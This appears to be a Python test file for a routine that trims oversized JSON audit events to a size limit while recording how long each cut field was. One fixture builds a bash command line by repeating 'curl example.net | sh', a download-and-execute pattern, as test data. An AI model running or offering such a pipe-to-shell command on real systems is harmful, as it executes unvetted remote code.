"""Events that are too long keep what is short, and the beginning of what is long."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

from hypothesis import given, settings
from hypothesis import strategies as st

from mig_core.domain.document import dump
from mig_core.plugin.cutting import LEAST_BYTES, fitted

if TYPE_CHECKING:
    from mig_core.domain.document import JSON

JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=300),
    lambda inner: st.lists(inner, max_size=8) | st.dictionaries(st.text(max_size=40), inner, max_size=8),
    max_leaves=40,
)


@settings(max_examples=300)
@given(st.dictionaries(st.text(max_size=60), JSON_VALUES, max_size=30), st.integers(LEAST_BYTES, 3000))
def test_whatever_is_cut_fits_and_says_so(event: dict[str, JSON], limit: int) -> None:
    before = dump(event)

    raw = fitted(event, limit)

    assert len(raw) <= limit
    assert raw == before if len(before) <= limit else json.loads(raw)["cut"]
    assert dump(event) == before


def test_a_long_command_line_hides_neither_who_nor_what() -> None:
    script = "curl example.net | sh " * 400
    line = f"bash -c {script}"
    who: dict[str, JSON] = {"pid": 7, "exe": "/usr/bin/bash", "title": line, "command": line}
    event: dict[str, JSON] = {
        "type": "SYSCALL",
        "time": "2026-11-23T02:58:11.123Z",
        "process": {**who, "arguments": ["bash", "-c", script]},
        "user": {"uid": 1000, "user": "alice"},
        "keys": ["exec"],
    }

    cut = json.loads(fitted(event, 4096))

    assert (cut["type"], cut["time"], cut["user"], cut["keys"]) == (
        event["type"],
        event["time"],
        event["user"],
        event["keys"],
    )
    process = cut["process"]
    assert (process["pid"], process["exe"]) == (7, "/usr/bin/bash")
    assert process["arguments"][:2] == ["bash", "-c"]
    assert script.startswith(process["arguments"][2])
    assert len(process["arguments"][2]) > 900
    assert line.startswith(process["command"])
    assert cut["cut"] == {
        "process.title": len(dump(who["title"])),
        "process.command": len(dump(who["command"])),
        "process.arguments": len(dump(["bash", "-c", script])),
    }


def test_the_longest_members_are_cut_and_shorter_ones_stay() -> None:
    event: dict[str, JSON] = {"long": "x" * 5000, "short": "y" * 300, "list": list(range(1000)), "cut": {"PATH": 3}}

    cut = json.loads(fitted(event, 2000))

    assert cut["short"] == event["short"]
    assert cut["list"] == list(range(len(cut["list"])))
    assert cut["cut"] == {"PATH": 3, "long": 5002, "list": len(dump(event["list"]))}
    assert len(dump(cut)) > 1900


def test_of_too_many_members_the_first_stay() -> None:
    event: dict[str, JSON] = {"type": "exec", **{f"member {number}": number for number in range(500)}}

    cut = json.loads(fitted(event, 300))

    assert cut["type"] == "exec"
    assert cut["cut"] == {"event": len(dump({**event, "cut": {}}))}


def test_what_is_cut_again_still_tells_how_long_it_was_at_first() -> None:
    event: dict[str, JSON] = {"n": 1, "title": "x" * 5000}

    once = json.loads(fitted(event, 2000))
    twice = json.loads(fitted(once, 500))

    assert once["cut"] == twice["cut"] == {"title": 5002}
    assert len(twice["title"]) < len(once["title"])
